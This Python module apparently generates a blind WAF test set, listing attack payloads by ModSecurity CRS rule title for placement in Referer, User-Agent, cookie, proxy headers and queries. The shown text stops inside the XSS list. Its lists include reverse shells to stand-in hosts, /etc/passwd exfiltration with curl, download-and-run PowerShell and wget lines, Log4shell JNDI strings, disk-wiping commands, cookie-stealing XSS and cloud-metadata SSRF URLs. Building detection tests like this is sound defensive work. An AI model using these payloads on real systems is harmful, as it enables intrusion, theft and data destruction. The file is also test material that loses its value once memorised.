"""Blind set "seventysixth": attack payloads carried where browsers and HTTP clients carry data besides the form.

The angle: a tester who puts each payload in the request parts a proxy, a browser or a client library fills in
on its own, and which applications still log, parse or reflect: the page the user came from (a Referer of the
product's own pages, the payload URL-encoded in that page's query), the client's identity (the whole
User-Agent, or text appended after a real browser's User-Agent), one cookie among ordinary ones (URL-encoded as
a browser stores it), and the forwarding and negotiation headers a proxy or a script adds (X-Forwarded-For,
X-Forwarded-Host, Forwarded, X-Real-IP, Accept-Language, X-Requested-With, a custom X-Search-Term). The same
payloads also go, for comparison, into a plain search query.

Families and sub-families: one kebab-case sub-family per detection title of the brief (CRS 3.3 request rules
at paranoia levels 1 and 2, and the later 4.x titles), in the families sqli, xss, php, rce, lfi, rfi, java and
generic (Node.js, SSRF, prototype pollution, Ruby, Perl, session fixation, PHP data scheme). A later title that
repeats an earlier one word for word (PHP wrapper scheme, variable function call, AngularJS template
injection, suspicious Java method) shares that title's sub-family. Each sub-family holds 6 to 9 payloads, from
short fragments to full attacks, some with one obfuscation (percent-encoding, case, comments, quotes, carets).

Placements: each title's payloads are spread over all five places: "header:Referer" (about a third; the
payload in the query of a page of app.example.com, sent with an ordinary GET /api/users?page=n, GET
/api/users/42 or POST /api/users of ordinary JSON), "header:User-Agent" (about a quarter), "cookie",
"header:<Name>" for the proxy and negotiation headers, and "query" (GET /api/users?q=<payload>&page=n). Header
values never contain CR, LF or NUL: any control or non-ASCII character is percent-encoded as a client would.

The benign half sends the same places with what real browsers and clients send: Referers of the product's pages
with real searches and filters (names with apostrophes, ampersands, quotes, emoji, dates, "a OR b" searches,
words such as union, select, script, alert, exec, sleep), the User-Agents of browsers, bots and SDKs, consent
and analytics cookies, proxy chains and language lists, plus Slack messages and bios about the same code.

Authorship and independence: written from general knowledge and the titles of the brief alone (no WAF rule,
ruleset regression test, other blind set or public payload list was read), measured once on unchanged code and
not tuned afterwards. Deterministic: every choice comes from fixed lists or a seeded random source.
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "seventysixth"

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.4 Safari/605.1.15")
IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.4 Mobile/15E148 Safari/604.1")
EDGE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 "
        "Safari/537.36 Edg/123.0.2420.81")
BROWSERS = [CHROME, FIREFOX, SAFARI, IPHONE, EDGE]

# ---------------------------------------------------------------------------------------------------------------
# Attack payloads: {category: {sub-family: [payloads]}}, one sub-family per title.
# ---------------------------------------------------------------------------------------------------------------

LFI: dict[str, list[str]] = {
    # Path Traversal Attack (/../), the encoded form
    "traversal-encoded": [
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fwindows%2fwin.ini",
        "%2e%2e/%2e%2e/%2e%2e/boot.ini",
        "..%c0%af..%c0%afetc/hosts",
        "%252e%252e%252f%252e%252e%252fconfig.yml",
        "..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config",
        "/static/%2e%2e/%2e%2e/app/settings.py",
        "..%u2215..%u2215etc%u2215issue",
    ],
    # Path Traversal Attack (/../), the decoded form
    "traversal-dotdot": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "/var/www/html/../../../root/.bash_history",
        "....//....//....//etc/shadow",
        "..;/..;/admin/",
        "images/../../../../proc/self/environ",
        "..\\/..\\/..\\/etc/group",
        "../",
    ],
    # OS File Access Attempt
    "os-file-access": [
        "/etc/passwd",
        "/proc/self/cmdline",
        "c:\\windows\\win.ini",
        "/etc/shadow",
        "file=/home/deploy/.ssh/id_rsa",
        "/var/log/apache2/access.log",
        "%2Fetc%2Fhosts",
        "C:/boot.ini",
    ],
    # Restricted File Access Attempt
    "restricted-file": [
        "/.env",
        ".git/config",
        "/.htaccess",
        "/WEB-INF/web.xml",
        ".svn/entries",
        "/.aws/credentials",
        "/.DS_Store",
        "/.docker/config.json",
    ],
    # OS File Access Attempt in REQUEST_HEADERS (4.x)
    "os-file-in-headers": [
        "/etc/security/opasswd",
        "/proc/1/environ",
        "/root/.ssh/authorized_keys",
        "C:\\Windows\\System32\\config\\SAM",
        "/etc/sudoers",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/etc/mysql/my.cnf",
    ],
    # Path Traversal Attack (/../) or (/.../) (4.x)
    "traversal-triple-dot": [
        ".../.../.../etc/passwd",
        "/.../.../windows/win.ini",
        "..../..../..../etc/hosts",
        "...\\...\\...\\boot.ini",
        "/assets/.../.../.../proc/version",
        "%2e%2e%2e/%2e%2e%2e/etc/passwd",
        "a/.../b/../../../etc/group",
    ],
}

RFI: dict[str, list[str]] = {
    # URL Parameter using IP Address
    "rfi-ip-url": [
        "http://203.0.113.45/shell.txt",
        "https://198.51.100.7/inc/cmd.php",
        "ftp://192.0.2.10/x.txt",
        "http://45.33.12.9:8080/r57.txt",
        "include=http://10.10.14.3/rev.php",
        "HtTp://203.0.113.8/b.txt",
        "http://[2001:db8::1]/c99.txt",
    ],
    # Common RFI Vulnerable Parameter Name used w/URL Payload
    "rfi-param-name": [
        "page=http://evil.example.net/shell.txt",
        "include=https://evil.example.net/a.php",
        "file=ftp://evil.example.net/x",
        "template=http://attacker.example.org/t.txt",
        "path=http://attacker.example.org/x?",
        "mosConfig_absolute_path=http://evil.example.net/r.txt?",
        "inc=https://evil.example.net/c99.txt",
    ],
    # URL Payload Used w/Trailing Question Mark Character (?)
    "rfi-trailing-question": [
        "http://evil.example.net/shell.txt?",
        "https://attacker.example.org/x.php?",
        "ftp://evil.example.net/a.txt?",
        "http://evil.example.net/c99.txt??",
        "//evil.example.net/r57.txt?",
        "HTTPS://cdn.evil.example.net/inc?",
        "http://evil.example.net/payload.txt%3F",
    ],
    # Off-Domain Reference/Link
    "rfi-off-domain": [
        "https://evil.example.net/",
        "http://attacker.example.org/login",
        "ftp://files.attacker.example.org/",
        "https://phish.example.net/account/verify",
        "http://evil.example.net/x.js",
        "https://paste.attacker.example.org/raw/abc123",
        "file://evil.example.net/share/x",
    ],
}

RCE: dict[str, list[str]] = {
    # Unix Command Injection (932100)
    "unix-cmd-injection": [
        ";id",
        "; cat /etc/passwd",
        "| nc -e /bin/sh 203.0.113.5 4444",
        "&& wget http://evil.example.net/x -O /tmp/x",
        "`uname -a`",
        "$(whoami)",
        "x;ls -la /",
        "1|ping -c 4 127.0.0.1",
    ],
    # Unix Command Injection (932105)
    "unix-cmd-injection-2": [
        "; c'a't /etc/passwd",
        ";/bin/ca?/etc/pas?wd",
        "|w\\h\\o\\a\\m\\i",
        "&& ls${IFS}-la",
        ";{cat,/etc/passwd}",
        "$(printf 'id')",
        "; /usr/bin/id #",
        ";   netstat -an",
    ],
    # Windows Command Injection (932110)
    "windows-cmd-injection": [
        "& dir c:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user hacker P4ss /add",
        "; ipconfig /all",
        "| whoami /priv",
        "& cmd.exe /c ver",
        "&& systeminfo",
        "| tasklist /v",
    ],
    # Windows Command Injection (932115)
    "windows-cmd-injection-2": [
        "& c^m^d /c d^i^r",
        "|certutil -urlcache -split -f http://evil.example.net/x.exe",
        "& reg query HKLM\\SOFTWARE",
        "| netsh firewall show state",
        "& wmic process list",
        "& schtasks /query",
        "| findstr /s password *.config",
    ],
    # Windows PowerShell Command Found
    "powershell": [
        "powershell -nop -w hidden -enc SQBFAFgA",
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')",
        "IEX(iwr http://evil.example.net/p)",
        "Get-ChildItem C:\\Users -Recurse",
        "Start-Process calc.exe",
        "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
        "[System.Convert]::FromBase64String('aWQ=')",
        "Remove-Item -Force -Recurse C:\\inetpub",
    ],
    # Unix Shell Expression Found
    "unix-shell-expression": [
        "$(id)",
        "`cat /etc/hostname`",
        "${IFS}",
        "$((1+1))",
        "<(curl evil.example.net)",
        "$(</etc/passwd)",
        ">(nc 203.0.113.5 4444)",
        "${PATH:0:1}",
    ],
    # Windows FOR/IF Command Found
    "windows-for-if": [
        "for /f %i in ('whoami') do echo %i",
        "if exist c:\\boot.ini type c:\\boot.ini",
        "& for /r c:\\ %f in (*.config) do type %f",
        "FOR /L %x IN (1,1,100) DO ping 127.0.0.1",
        "if defined PATH echo %PATH%",
        "& for /d %d in (*) do dir %d",
        "if not exist x.txt echo 1 > x.txt",
    ],
    # Direct Unix Command Execution
    "direct-unix-command": [
        "cat /etc/passwd",
        "wget http://evil.example.net/a.sh",
        "curl -d @/etc/passwd evil.example.net",
        "nc -lvp 4444",
        "bash -i",
        "/bin/sh -c id",
        "python -c 'import pty;pty.spawn(\"/bin/bash\")'",
        "chmod +x /tmp/a",
    ],
    # Unix Shell Code Found
    "unix-shell-code": [
        "/bin/bash -c 'id'",
        "/usr/bin/perl -e 'exec \"/bin/sh\"'",
        "bin/sh",
        "/bin/zsh",
        "/usr/bin/wget -q -O- evil.example.net",
        "/sbin/ifconfig",
        "/usr/bin/env python",
        "/bin/busybox telnetd",
    ],
    # Shellshock (CVE-2014-6271), 932170
    "shellshock": [
        "() { :; }; /bin/cat /etc/passwd",
        "() { :;}; echo vulnerable",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; /usr/bin/wget http://evil.example.net/x",
        "(){ :;};ping -c1 203.0.113.5",
        "() { ignored;}; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    ],
    # Shellshock (CVE-2014-6271), 932171
    "shellshock-2": [
        "() {",
        "() { :; }",
        "() { x;}; id",
        "%28%29%20%7B%20%3A%3B%20%7D%3B%20id",
        "() { :;}; /bin/sleep 10",
        "() {:;}; cat /etc/issue",
    ],
    # Restricted File Upload Attempt
    "restricted-upload": [
        ".htaccess",
        "web.config",
        ".htpasswd",
        ".user.ini",
        "../.htaccess",
        "uploads/.htaccess",
        "Web.Config",
    ],
    # RCE Bypass Technique
    "rce-bypass": [
        "c'a't /etc/pa''sswd",
        "w\"h\"o\"a\"m\"i",
        "/???/??t /???/p??s??",
        "ca$@t /etc/passwd",
        "wh$()oami",
        "$u cat$u /etc$u/passwd",
        "/b[i]n/c[a]t /e[t]c/passwd",
        "id${IFS}-a",
    ],
    # 4.x: Unix Command Injection (command without evasion)
    "unix-cmd-plain": [
        "uname -a",
        "whoami",
        "cat /etc/issue",
        "id",
        "ls -la /var/www",
        "ps aux",
        "ifconfig",
        "netstat -tulpn",
    ],
    # 4.x: Unix Command Injection evasion attempt detected
    "unix-cmd-evasion": [
        "w'h'o'am'i",
        "c\\at /e\\tc/pa\\sswd",
        "${HOME:0:1}etc${HOME:0:1}passwd",
        "$'\\x63\\x61\\x74' /etc/passwd",
        "who$@ami",
        "l\"s\" -la",
        "ec''ho pwned",
    ],
    # 4.x: Unix shell alias invocation
    "unix-alias": [
        "alias ls='rm -rf /'",
        "; alias cd='curl evil.example.net|sh'",
        "\\ls",
        "unalias -a; ls",
        "$(alias)",
        "; \\rm -rf /tmp/x",
        "alias sudo='sudo id;'",
    ],
    # 4.x: Unix shell history invocation
    "unix-history": [
        "!!",
        "; !-1",
        "!cat",
        "history -c",
        "$(history | tail -1)",
        "fc -s",
        "cat ~/.bash_history",
    ],
    # 4.x: Unix command injection with pipes / 2-3 letter commands
    "unix-pipe-short": [
        "|id",
        "| ls",
        "|sh",
        "||w",
        "| nc",
        "|ps",
        "| ed",
        "&& dd if=/dev/zero of=/dev/sda",
    ],
    # 4.x: SQLite System Command Execution
    "sqlite-system": [
        ".system id",
        ".shell cat /etc/passwd",
        "'; .shell id; --",
        ".import /etc/passwd t",
        "; .output /tmp/x.php",
        ".load /tmp/evil.so",
        "ATTACH DATABASE '/var/www/x.php' AS x",
    ],
    # 4.x: SMTP / IMAP / POP3 Command Execution
    "mail-command": [
        "MAIL FROM:<a@evil.example.net>",
        "RCPT TO:<root@localhost>",
        "a001 LOGIN admin admin",
        "x1 FETCH 1:* (BODY[])",
        "USER root",
        "RETR 1",
        "EHLO evil.example.net",
        "VRFY root",
    ],
    # 4.x: Windows Command Injection (cmd, powershell with evasions)
    "windows-cmd-evasion": [
        "c^m^d.exe /c who^ami",
        "cmd /c \"set x=who&& call %x%ami\"",
        "p^o^w^e^r^s^h^e^l^l -c id",
        "%COMSPEC% /c dir",
        "cmd.exe/cdir",
        "C:\\Windows\\System32\\cmd.exe /k ver",
        "powershell -e JABjAD0A",
        "cmd /v:on /c \"set a=calc&&!a!\"",
    ],
    # 4.x: Unix Shell Code Found in REQUEST_HEADERS
    "unix-shell-in-headers": [
        "bash -c 'exec bash -i &>/dev/tcp/203.0.113.5/4444 <&1'",
        "/bin/sh",
        "sh -c \"$(curl -fsSL evil.example.net/i)\"",
        "rm -rf /",
        "`/usr/bin/id`",
        "$(wget -qO- evil.example.net/s|sh)",
        "echo;/bin/cat /etc/passwd",
    ],
    # 4.x: Direct Unix Command Execution (absolute paths, wildcards)
    "direct-unix-path": [
        "/usr/bin/id",
        "/bin/c?t /etc/passwd",
        "/???/n? -e /???/b??h 203.0.113.5 4444",
        "/usr/bin/curl evil.example.net",
        "/bin/ls -la /root",
        "/sbin/reboot",
        "/usr/sbin/useradd x",
        "/usr/local/bin/python3 -c 'print(1)'",
    ],
}

PHP: dict[str, list[str]] = {
    # PHP Open Tag Found
    "php-open-tag": [
        "<?php",
        "<?php system('id'); ?>",
        "<?= $_GET[0] ?>",
        "<? passthru($_REQUEST['c']); ?>",
        "<?PHP eval($_POST['x']);",
        "<script language=\"php\">phpinfo();</script>",
        "%3C%3Fphp%20echo%201%3B%20%3F%3E",
        "<?php\tphpinfo();",
    ],
    # PHP Script File Upload Found
    "php-upload-name": [
        "shell.php",
        "avatar.php5",
        "x.phtml",
        "image.jpg.php",
        "backdoor.phar",
        "cmd.PHP",
        "test.php7",
        "index.pht",
    ],
    # Configuration Directive Found
    "php-config-directive": [
        "allow_url_include=1",
        "auto_prepend_file=php://input",
        "safe_mode=off",
        "disable_functions=",
        "open_basedir=/",
        "allow_url_fopen=On",
        "auto_append_file=/etc/passwd",
        "suhosin.simulation=1",
    ],
    # Variables Found
    "php-variables": [
        "$_GET['cmd']",
        "$_SERVER['HTTP_USER_AGENT']",
        "$GLOBALS",
        "$_COOKIE",
        "$_ENV['PATH']",
        "$HTTP_RAW_POST_DATA",
        "$_FILES['f']['tmp_name']",
        "$_SESSION['admin']=1",
    ],
    # I/O Stream Found
    "php-io-stream": [
        "php://input",
        "php://stdin",
        "php://fd/0",
        "php://memory",
        "php://temp",
        "php://stdout",
        "php://stderr",
        "PHP://OUTPUT",
    ],
    # Wrapper scheme detected (3.3 and 4.x)
    "php-wrapper": [
        "zlib://shell.gz",
        "phar://uploads/a.jpg/x",
        "glob://*",
        "expect://id",
        "zip://avatar.zip#s.php",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
        "compress.bzip2://x.bz2",
        "rar://a.rar#b",
        "ssh2.exec://user:pw@host/id",
    ],
    # High-Risk PHP Function Name Found
    "php-risky-name": [
        "shell_exec",
        "passthru",
        "phpinfo",
        "proc_open",
        "popen",
        "pcntl_exec",
        "posix_getpwuid",
        "gzuncompress",
    ],
    # High-Risk PHP Function Call Found
    "php-risky-call": [
        "system('id')",
        "exec(\"whoami\")",
        "eval($_POST['a'])",
        "shell_exec ('ls')",
        "passthru(base64_decode('aWQ='))",
        "assert/**/('phpinfo()')",
        "file_put_contents('s.php', $x)",
        "readfile('/etc/passwd')",
    ],
    # Serialized Object Injection
    "php-serialized": [
        "O:8:\"stdClass\":0:{}",
        "a:1:{s:4:\"test\";O:4:\"Evil\":0:{}}",
        "O:+4:\"Pwnd\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:6:\"Logger\":1:{s:8:\"filename\";s:9:\"shell.php\";}",
        "O%3A4%3A%22User%22%3A0%3A%7B%7D",
        "x|O:7:\"Session\":1:{s:4:\"role\";s:5:\"admin\";}",
    ],
    # Variable Function Call Found (933180)
    "php-variable-call": [
        "$x($_GET[1])",
        "$f = 'system'; $f('id');",
        "$a = $_GET['a']; $a();",
        "${'_'.'GET'}['c']()",
        "$cb(\"whoami\")",
        "$obj->$method()",
        "$$name('id')",
        "$_POST['fn']($_POST['arg'])",
    ],
    # Variable Function Call Found (933210, and 4.x: string / array / concatenated callees)
    "php-callee-expression": [
        "('sys'.'tem')('id')",
        "'system'('whoami')",
        "[new Foo,'bar']()",
        "(\"\\x73ystem\")(\"id\")",
        "array('Closure','fromCallable')('system')",
        "('ex'.'ec')('ls')",
        "'ass'.'ert'($_GET['a'])",
        "(strrev('metsys'))('id')",
    ],
    # Medium-Risk PHP Function Name Found
    "php-medium-risk": [
        "mail(",
        "unlink('index.php')",
        "curl_exec($ch)",
        "move_uploaded_file(",
        "ini_get_all()",
        "chmod('x.php', 0777)",
        "extract($_GET)",
        "symlink",
    ],
}

GENERIC: dict[str, list[str]] = {
    # Node.js Injection Attack (934100)
    "nodejs-injection": [
        "require('child_process').exec('id')",
        "process.mainModule.require('fs')",
        "child_process.spawn('sh')",
        "eval(require('fs').readFileSync('/etc/passwd','utf8'))",
        "_$$ND_FUNC$$_function(){return 1}()",
        "process.kill(1)",
        "new Function('return process')()",
    ],
    # 4.x: Node.js Injection Attack 1/2
    "nodejs-injection-1of2": [
        "this.constructor.constructor('return process')()",
        "[].constructor.constructor('return this')()",
        "global.process.mainModule.constructor._load('child_process')",
        "module.require('child_process').execSync('id')",
        "require(\"child_\"+\"process\")",
        "process.binding('spawn_sync')",
        "Reflect.construct(Function,['return process'])()",
    ],
    # 4.x: Node.js Injection Attack 2/2
    "nodejs-injection-2of2": [
        "require('vm').runInNewContext('process')",
        "import('child_process').then(c=>c.exec('id'))",
        "Buffer.from('aWQ=','base64').toString()",
        "process['env']",
        "globalThis.process.exit()",
        "require('fs').writeFileSync('/tmp/x','y')",
        "execSync('cat /etc/passwd').toString()",
    ],
    # 4.x: Possible SSRF: Cloud provider metadata URL in Parameter
    "ssrf-cloud-metadata": [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/project/",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://[fd00:ec2::254]/latest/api/token",
        "http://169.254.170.2/v2/credentials/abc",
        "http://169.254.169.254/opc/v2/instance/",
    ],
    # 4.x: Possible SSRF: URL Parameter using IP Address
    "ssrf-ip-address": [
        "http://127.0.0.1:8080/",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://017700000001/",
        "http://[::1]:6379/",
        "http://0/",
        "http://127.1/server-status",
        "http://[::ffff:10.0.0.1]/",
    ],
    # 4.x: JavaScript Prototype Pollution
    "prototype-pollution": [
        "__proto__[admin]=true",
        "constructor[prototype][isAdmin]=1",
        "{\"__proto__\":{\"role\":\"admin\"}}",
        "a.__proto__.polluted=1",
        "constructor.prototype.toString=1",
        "__proto__.env.NODE_OPTIONS=--inspect",
        "x[__proto__][y]=z",
    ],
    # 4.x: Ruby Injection Attack
    "ruby-injection": [
        "Kernel.exec('id')",
        "%x(whoami)",
        "IO.popen('id').read",
        "Object.send(:system, 'id')",
        "<%= `ls` %>",
        "Open3.popen3('id')",
        "File.read('/etc/passwd')",
    ],
    # 4.x: Perl Injection Attack
    "perl-injection": [
        "@{[system 'id']}",
        "perl -e 'print `id`'",
        "exec('/bin/sh')",
        "open(F, \"|id\")",
        "qx{whoami}",
        "eval { system('ls') }",
        "use IO::Socket;",
    ],
    # 4.x: Node.js DoS attack
    "nodejs-dos": [
        "while(true){}",
        "for(;;){}",
        "process.exit(1)",
        "new Array(4294967295)",
        "JSON.parse('['.repeat(1e7))",
        "setInterval(()=>{},0)",
        "while (1) { Math.random() }",
    ],
    # 4.x: PHP data scheme attack
    "php-data-scheme": [
        "data:text/plain,<?php phpinfo();?>",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data:;base64,PD9waHAg",
        "data:application/x-httpd-php;base64,PD9waHA=",
        "DATA://text/plain,<?=`id`?>",
        "data://text/plain,phpinfo",
    ],
    # Session Fixation: Setting Cookie Values in HTML
    "session-cookie-html": [
        "<script>document.cookie='sessionid=attacker123'</script>",
        "<meta http-equiv=\"Set-Cookie\" content=\"PHPSESSID=abc\">",
        "document.cookie=\"JSESSIONID=fixed; path=/\"",
        "<meta http-equiv=Set-Cookie content=session=xyz>",
        "javascript:document.cookie='sid=1'",
        ".cookie=\"ASPSESSIONID=9\"",
        "%3Cmeta%20http-equiv%3D%22set-cookie%22%20content%3D%22sid%3D1%22%3E",
    ],
    # Session Fixation: SessionID Parameter Name with Off-Domain Referer
    "session-param-referer": [
        "PHPSESSID=0123456789abcdef",
        "jsessionid=ABCDEF0123456789",
        "sessionid=attacker-chosen",
        "aspsessionid=XYZ",
        "sid=fixed1234",
        ";jsessionid=1A2B3C4D",
        "session_id=evil",
    ],
    # Session Fixation: SessionID Parameter Name with No Referer
    "session-param-no-referer": [
        "PHPSESSID=attacker",
        "JSESSIONID=deadbeef",
        "sess_id=1337",
        "CFID=1&CFTOKEN=2",
        "sessionid=x",
        "phpsessid=aaaaaaaaaaaaaaaaaaaaaa",
        "ASP.NET_SessionId=abc",
    ],
}

JAVA: dict[str, list[str]] = {
    # Suspicious Java class detected (944100)
    "java-class": [
        "java.lang.Runtime",
        "java.lang.ProcessBuilder",
        "javax.script.ScriptEngineManager",
        "java.lang.reflect.Method",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "java.io.FileInputStream",
        "java.net.URLClassLoader",
    ],
    # Java process spawn (CVE-2017-9805)
    "java-process-spawn": [
        "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
        "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
        "new ProcessBuilder(\"id\").start()",
        "Runtime.getRuntime().exec(\"calc\")",
        "java.lang.ProcessBuilder#start",
        "processbuilder.start()",
        "<void method=\"start\"/>",
        "ProcessBuilder pb = new ProcessBuilder(cmd); pb.start();",
    ],
    # Java serialization (CVE-2015-4852), 944120
    "java-serialization": [
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "InvokerTransformer",
        "javax.management.BadAttributeValueExpException",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "ysoserial",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    ],
    # Suspicious Java class detected (944130)
    "java-class-2": [
        "com.sun.rowset.JdbcRowSetImpl",
        "java.lang.Runtime.getRuntime()",
        "javax.naming.InitialContext",
        "org.springframework.beans.factory.ObjectFactory",
        "java.lang.System.getProperty(\"user.home\")",
        "bsh.Interpreter",
        "org.codehaus.groovy.runtime.MethodClosure",
    ],
    # Magic bytes Detected, probable java serialization in use
    "java-magic-bytes": [
        "%ac%ed%00%05sr%00%11java.util.HashMap",
        "aced0005737200116a6176612e7574696c2e486173684d6170",
        "\u00ac\u00ed\u0005sr\u0011java.util.HashMap",
        "ACED0005737200",
        "\\xac\\xed\\x00\\x05",
        "%AC%ED%00%05ur%00%13%5BLjava.lang.Object%3B",
    ],
    # Magic bytes Detected Base64 Encoded
    "java-magic-base64": [
        "rO0ABQ==",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
        "rO0AB",
        "rO0ABXQAA2lkdA==",
        "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u",
        "Basic rO0ABXVy",
    ],
    # Java serialization (CVE-2015-4852), 944240
    "java-serialization-2": [
        "java.util.PriorityQueue",
        "org.apache.commons.beanutils.BeanComparator",
        "clojure.core$comp",
        "java.rmi.server.UnicastRemoteObject",
        "org.hibernate.engine.spi.TypedValue",
        "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
        "org.apache.xalan.xsltc.trax.TemplatesImpl",
    ],
    # Suspicious Java method detected (944250 and 4.x)
    "java-method": [
        "getRuntime()",
        ".exec(\"id\")",
        "getClass().forName('java.lang.Runtime')",
        "Class.forName(\"x\").newInstance()",
        "getDeclaredMethod(\"exec\")",
        ".invoke(null)",
        "defineClass(bytes)",
        "setAccessible(true)",
    ],
    # 4.x: Potential Remote Command Execution: Log4j / Log4shell
    "log4shell": [
        "${jndi:ldap://evil.example.net/a}",
        "${jndi:rmi://203.0.113.5:1099/x}",
        "${${lower:j}ndi:ldap://evil.example.net/b}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example.net/c}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.net/d}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example.net/e}",
        "$%7Bjndi:ldap://evil.example.net/f%7D",
    ],
    # 4.x: Malicious class-loading payload
    "class-loading": [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc%7Di",
        "class.classLoader.URLs[0]=http://evil.example.net/x.jar",
        "URLClassLoader.newInstance(new URL[]{new URL(\"http://evil.example.net/a.jar\")})",
        "Thread.currentThread().getContextClassLoader().loadClass(\"Evil\")",
        "defineClass(\"Evil\", b, 0, b.length)",
        "new javax.management.loading.MLet()",
        "class.module.classLoader.DefaultAssertionStatus=true",
    ],
    # 4.x: Java script file upload
    "java-script-upload": [
        "shell.jsp",
        "cmd.jspx",
        "upload.jsp%00.png",
        "x.jsp;.jpg",
        "index.JSP",
        "backdoor.war",
        "include.jspf",
    ],
}

XSS: dict[str, list[str]] = {
    # XSS Attack Detected via libinjection (941100)
    "libinjection-xss": [
        "<script>alert(1)</script>",
        "\"><svg onload=alert(1)>",
        "<img src=x onerror=alert(document.cookie)>",
        "'><iframe src=javascript:alert(1)>",
        "<body onpageshow=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ],
    # XSS Filter - Category 1: Script Tag Vector
    "script-tag": [
        "<script>",
        "<script src=//evil.example.net/x.js></script>",
        "<SCRIPT>alert('x')</SCRIPT>",
        "<script\t>confirm(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "</script><script>prompt(1)</script>",
        "<script type=\"text/javascript\">fetch('//evil.example.net/'+document.cookie)</script>",
    ],
    # Category 2: Event Handler Vector
    "event-handler": [
        "onmouseover=alert(1)",
        "\" onfocus=alert(1) autofocus=\"",
        "<div onclick=\"alert(1)\">",
        " onload =confirm(1)",
        "x' onerror='prompt(1)",
        "<video><source onerror=alert(1)>",
        "<svg onanimationstart=alert(1)>",
        "onpointerenter=alert`1`",
    ],
    # Category 3: Attribute Vector
    "attribute-vector": [
        "<a xlink:href=\"javascript:alert(1)\">",
        "<form action=javascript:alert(1)>",
        "style=\"behavior:url(x.htc)\"",
        "<x data=\"data:text/html,<script>alert(1)</script>\">",
        "formaction=javascript:alert(1)",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)>",
        "<x style=-moz-binding:url(//evil.example.net/x.xml#x)>",
    ],
    # Category 4: Javascript URI Vector
    "javascript-uri": [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "javascript://%0aalert(1)",
        "<a href=\"javascript:void(0)\" >",
        "url(javascript:alert(1))",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "<img src=\"javascript:alert(1)\">",
    ],
    # NoScript XSS InjectionChecker: HTML Injection
    "html-injection": [
        "<svg>",
        "<iframe>",
        "<object>",
        "<embed src=x>",
        "<form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<base href=//evil.example.net/>",
    ],
    # NoScript XSS InjectionChecker: Attribute Injection
    "attribute-injection": [
        "\" style=\"x:expression(alert(1))",
        "' href='javascript:alert(1)",
        "\"><a href=javascript:alert(1)>x</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "\" src=data:text/html,<script>alert(1)</script>",
        "x\" onclick=\"alert(1)",
        "\" formaction=\"javascript:alert(1)\"",
    ],
    # Node-Validator Blacklist Keywords
    "node-validator": [
        "document.cookie",
        "document.write(1)",
        ".parentNode",
        ".innerHTML",
        "window.location",
        "-moz-binding",
        "<!--",
        "<![CDATA[",
    ],
    # IE XSS Filters (941190: style)
    "ie-style": [
        "<style>@import 'http://evil.example.net/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE>",
        "<style>*{x:expression(alert(1))}</style>",
        "<style type=text/css>@im\\port'//evil.example.net'</style>",
        "<style>",
        "<style>a{behavior:url(#default#time2)}</style>",
    ],
    # IE XSS Filters (941200: vmlframe)
    "ie-vmlframe": [
